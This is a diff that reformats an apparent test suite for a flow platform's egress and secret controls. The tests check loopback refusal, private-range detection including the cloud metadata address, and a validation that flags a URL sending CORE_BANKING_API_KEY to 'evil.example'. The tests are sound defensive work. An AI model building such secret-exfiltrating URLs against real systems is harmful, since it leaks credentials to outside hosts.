@@ -9,7 +9,13 @@ const text = (en: string) => ({ text: { 'en-US': en } });
 /** A flow whose one http node calls `url` and then says whether the call succeeded. */
 function callFlow(id: string, url: string): Record<string, unknown> {
   return {
-    id, name: 'Egress probe', schemaVersion: 1, locales: ['en-US'], defaultLocale: 'en-US', variables: [], start: 'start',
+    id,
+    name: 'Egress probe',
+    schemaVersion: 1,
+    locales: ['en-US'],
+    defaultLocale: 'en-US',
+    variables: [],
+    start: 'start',
     nodes: [
       { id: 'start', type: 'start', config: {} },
       { id: 'call', type: 'http', config: { method: 'GET', url, timeoutMs: 2000, retries: 0, responseMapping: [] } },
@@ -66,7 +72,11 @@ async function run(id: string, url: string, options: { draft?: boolean } = {}): 
   expect((await t.api('POST', '/api/flows', { flow: callFlow(id, url) })).status).toBe(201);
   const published = options.draft ? 201 : (await t.api('POST', `/api/flows/${id}/publish`, {})).status;
   expect(published).toBe(201);
-  const started = await t.api('POST', '/api/sessions', { flowId: id, channel: 'chat', ...(options.draft ? { draft: true } : {}) });
+  const started = await t.api('POST', '/api/sessions', {
+    flowId: id,
+    channel: 'chat',
+    ...(options.draft ? { draft: true } : {}),
+  });
   expect(started.status).toBe(201);
   return JSON.stringify(started.body.session.outputs);
 }
@@ -83,7 +93,9 @@ describe('secrets stay where they belong (issue 14)', () => {
   it('refuses loopback destinations, also when a name resolves to one', async () => {
     received.length = 0;
     expect(await run('internal', `${internalOrigin}/accounts`)).toContain('Call failed.');
-    expect(await run('by-name', `${internalOrigin.replace('127.0.0.1', 'localhost')}/accounts`)).toContain('Call failed.');
+    expect(await run('by-name', `${internalOrigin.replace('127.0.0.1', 'localhost')}/accounts`)).toContain(
+      'Call failed.',
+    );
     expect(received).toEqual([]);
     expect(t.logs.some((l) => l.includes('egress refused'))).toBe(true);
   });
@@ -99,21 +111,40 @@ describe('secrets stay where they belong (issue 14)', () => {
     expect(await run('drafted', `${origin}/ok?k={{secret:SANDBOXED}}`, { draft: true })).toContain('Call succeeded.');
     expect(received).toEqual(['/ok?k=draft-value-5d6e']);
     received.length = 0;
-    expect(await run('drafted-real', `${origin}/x?k={{secret:CORE_BANKING_API_KEY}}`, { draft: true })).toContain('Call failed.');
+    expect(await run('drafted-real', `${origin}/x?k={{secret:CORE_BANKING_API_KEY}}`, { draft: true })).toContain(
+      'Call failed.',
+    );
     expect(received).toEqual([]);
   });
 
   it('names a secret sent to a destination it may not reach in validation', async () => {
-    await t.api('POST', '/api/flows', { flow: callFlow('validated', 'https://evil.example/x?k={{secret:CORE_BANKING_API_KEY}}') });
+    await t.api('POST', '/api/flows', {
+      flow: callFlow('validated', 'https://evil.example/x?k={{secret:CORE_BANKING_API_KEY}}'),
+    });
     const reply = await t.api('POST', '/api/flows/validated/validate', {});
     expect(reply.body.ok).toBe(false);
-    expect(reply.body.issues).toContainEqual(expect.objectContaining({ code: 'SECRET002', nodeId: 'call', pointer: '/nodes/1/config/url' }));
-    const unlisted = await t.api('POST', '/api/flows/validated/validate', { flow: callFlow('validated', 'https://x.example/?k={{secret:UNLISTED}}') });
+    expect(reply.body.issues).toContainEqual(
+      expect.objectContaining({ code: 'SECRET002', nodeId: 'call', pointer: '/nodes/1/config/url' }),
+    );
+    const unlisted = await t.api('POST', '/api/flows/validated/validate', {
+      flow: callFlow('validated', 'https://x.example/?k={{secret:UNLISTED}}'),
+    });
     expect(unlisted.body.issues).toContainEqual(expect.objectContaining({ code: 'SECRET001', nodeId: 'call' }));
   });
 
   it('knows the private ranges', () => {
-    const privateOnes = ['127.0.0.1', '10.1.2.3', '172.20.0.1', '192.168.1.1', '169.254.169.254', '::1', 'fe80::1', 'fd00::1', '::ffff:127.0.0.1', '0.0.0.0'];
+    const privateOnes = [
+      '127.0.0.1',
+      '10.1.2.3',
+      '172.20.0.1',
+      '192.168.1.1',
+      '169.254.169.254',
+      '::1',
+      'fe80::1',
+      'fd00::1',
+      '::ffff:127.0.0.1',
+      '0.0.0.0',
+    ];
     expect(privateOnes.filter((address) => !isPrivateAddress(address))).toEqual([]);
     expect(['8.8.8.8', '203.0.113.9', '2001:4860:4860::8888'].filter(isPrivateAddress)).toEqual([]);
   });
